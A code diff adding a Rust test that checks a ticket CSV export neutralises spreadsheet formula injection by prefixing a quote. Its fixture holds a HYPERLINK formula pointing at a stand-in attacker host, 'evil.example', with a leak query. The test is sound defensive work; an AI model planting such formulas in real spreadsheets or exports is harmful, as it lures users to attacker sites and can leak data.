@@ -523,6 +523,20 @@ async fn an_empty_export_is_just_the_header() {
     assert_eq!(parse_csv(&out), vec![HEADER.map(str::to_owned).to_vec()]);
 }
 
+#[tokio::test]
+async fn a_formula_an_owner_typed_reaches_the_export_as_text() {
+    let c = community().await;
+    let link = r#"=HYPERLINK("http://evil.example/?leak","点击查看")"#;
+    c.add(Ticket { common_area: Some(link), ..filed(shanghai(2026, 10, 3, 10, 0)) }).await;
+    let (from, to) = Period::LastMonth.utc_range(november_27(), Shanghai);
+    let mut out = Vec::new();
+    let mut conn = c.db.pool.acquire().await.unwrap();
+    assert_eq!(tickets_csv(&mut conn, from, to, Shanghai, &mut out).await.unwrap(), 1);
+    let rows = parse_csv(&out);
+    let column = HEADER.iter().position(|h| *h == "common_area").unwrap();
+    assert_eq!(rows[1][column], format!("'{link}"), "a leading quote keeps it text in Excel");
+}
+
 fn propdesk(db: &TestDb) -> std::process::Command {
     let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_propdesk"));
     // Only what the test sets: no DATABASE_URL or .env from the developer's shell.
